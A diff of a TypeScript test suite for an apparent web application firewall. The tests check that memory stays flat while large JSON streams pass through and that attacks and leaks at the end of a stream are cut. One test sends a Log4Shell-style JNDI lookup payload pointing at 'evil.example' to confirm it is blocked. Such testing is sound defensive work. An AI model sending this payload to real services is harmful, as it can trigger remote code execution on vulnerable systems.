@@ -2,7 +2,7 @@
 // `npm run test:large` sends a GiB each way; `npm test` less, which grows as soon.
 import assert from "node:assert/strict";
 import { randomUUID } from "node:crypto";
-import { after, before, describe, test } from "node:test";
+import { after, before, describe, test, type TestContext } from "node:test";
 import type { ObservedResponse } from "./observed-response.ts";
 import { openExchange, type OpenExchange } from "./open-exchange.ts";
 import { type Bootstrap, eventually, ProtectedApi, withTrailers } from "./protected-api.ts";
@@ -33,20 +33,21 @@ describe("memory of the VM", { timeout: TIMEOUT_MS }, () => {
   });
   after(() => api?.stop());
 
-  const assertSmall = async (): Promise<void> => {
+  const assertSmall = async (context: TestContext): Promise<void> => {
     const bytes = await memoryOf(api);
+    context.diagnostic(`memory of the VM: ${(bytes / MIB).toFixed(1)} MiB`);
     assert.ok(bytes < MEMORY_LIMIT, `the VM has ${bytes} bytes`);
   };
   const size = `${STREAM_BYTES / MIB} MiB`;
 
-  test(`${size} of JSON to the upstream, an attack at its end → cut there, memory flat`, async () => {
+  test(`${size} of JSON to the upstream, an attack at its end → cut there, memory flat`, async (context) => {
     const id = randomUUID();
     api.upstream.countOnly(id);
     const exchange = await open(api, "/streamed/", id);
     await exchange.send(Buffer.from("["));
     await sendRecords(STREAM_BYTES, (bytes) => exchange.send(bytes));
     await api.upstream.until(id, "all of it", ({ content }) => content.length > STREAM_BYTES, TIMEOUT_MS);
-    await assertSmall();
+    await assertSmall(context);
     await exchange.send(Buffer.from('{"name":"${jndi:ldap://evil.example/a}"}'));
     const { response } = exchange;
     await response.changes.until("the end", () => response.ending);
@@ -57,7 +58,7 @@ describe("memory of the VM", { timeout: TIMEOUT_MS }, () => {
     assert.deepEqual([event?.action, event?.limits], ["block", undefined]);
   });
 
-  test(`${size} of JSON to the client, a leak at its end → cut there, memory flat`, async () => {
+  test(`${size} of JSON to the client, a leak at its end → cut there, memory flat`, async (context) => {
     const id = randomUUID();
     const isThere = ({ content }: ObservedResponse) => (content.length > STREAM_BYTES ? true : undefined);
     api.upstream.serve(id, async (upstream) => {
@@ -74,7 +75,7 @@ describe("memory of the VM", { timeout: TIMEOUT_MS }, () => {
     const { response } = exchange;
     response.content.keeps = false;
     await response.changes.until("the end", () => response.ending, TIMEOUT_MS);
-    await assertSmall();
+    await assertSmall(context);
     assert.equal(response.ending, "truncated");
     assert.ok(isThere(response), "everything before the leak arrives");
     exchange.abort();
@@ -82,41 +83,41 @@ describe("memory of the VM", { timeout: TIMEOUT_MS }, () => {
     assert.deepEqual([event?.action, event?.limits, event?.rules], ["reset", undefined, ["wg-resp-004"]]);
   });
 
-  for (const [kind, body] of [
-    ["records", recordsBody()],
-    ["one long string", `{"note":"${"two lamps ".repeat(UPLOAD_BYTES / 10)}"}`],
+  const long = `{"note":"${"two lamps ".repeat(UPLOAD_BYTES / 10)}"}`;
+  for (const [kind, body, path] of [
+    ["records", recordsBody(), "/held/"],
+    ["one long string", long, "/held/"],
+    ["one long string", long, "/streamed/"],
   ] as const) {
-    for (const path of ["/held/", "/streamed/"]) {
-      test(`${UPLOADS} slow uploads of ${UPLOAD_BYTES} bytes at once, ${kind}, ${path} → none fails, memory within bounds`, async () => {
-        const bytes = Buffer.from(body);
-        const uploads: { id: string; exchange: OpenExchange }[] = [];
-        for (let i = 0; i < UPLOADS; i++) {
-          const id = randomUUID();
-          uploads.push({ id, exchange: await open(api, path, id) });
-        }
-        // All bodies are under way at the same time: each gets its next part only when all have the one before.
-        const parts = 8;
-        for (let part = 0; part < parts - 1; part++) {
-          const slice = bytes.subarray((bytes.length * part) / parts, (bytes.length * (part + 1)) / parts);
-          for (const { exchange } of uploads) await exchange.send(slice);
-        }
-        await assertSmall();
-        const last = bytes.subarray((bytes.length * (parts - 1)) / parts);
-        for (const { exchange } of uploads) {
-          await exchange.send(last);
-          exchange.end();
-        }
-        for (const { id, exchange } of uploads) {
-          const { response } = exchange;
-          await response.changes.until("the end of an upload", () => response.ending, 60_000);
-          assert.deepEqual([response.status, response.ending], [200, "complete"]);
-          assert.ok(api.upstream.of(id)[0]!.body.equals(bytes), "the body arrives unchanged");
-          exchange.abort();
-          api.upstream.forget(id);
-        }
-        await assertSmall();
-      });
-    }
+    test(`${UPLOADS} slow uploads of ${UPLOAD_BYTES} bytes at once, ${kind}, ${path} → none fails, memory within bounds`, async (context) => {
+      const bytes = Buffer.from(body);
+      const uploads: { id: string; exchange: OpenExchange }[] = [];
+      for (let i = 0; i < UPLOADS; i++) {
+        const id = randomUUID();
+        uploads.push({ id, exchange: await open(api, path, id) });
+      }
+      // All bodies are under way at the same time: each gets its next part only when all have the one before.
+      const parts = 8;
+      for (let part = 0; part < parts - 1; part++) {
+        const slice = bytes.subarray((bytes.length * part) / parts, (bytes.length * (part + 1)) / parts);
+        for (const { exchange } of uploads) await exchange.send(slice);
+      }
+      await assertSmall(context);
+      const last = bytes.subarray((bytes.length * (parts - 1)) / parts);
+      for (const { exchange } of uploads) {
+        await exchange.send(last);
+        exchange.end();
+      }
+      for (const { id, exchange } of uploads) {
+        const { response } = exchange;
+        await response.changes.until("the end of an upload", () => response.ending, 60_000);
+        assert.deepEqual([response.status, response.ending], [200, "complete"]);
+        assert.ok(api.upstream.of(id)[0]!.body.equals(bytes), "the body arrives unchanged");
+        exchange.abort();
+        api.upstream.forget(id);
+      }
+      await assertSmall(context);
+    });
   }
 
   test("after all of this → no VM failed, nothing was logged as an error", () => api.assertHealthy());
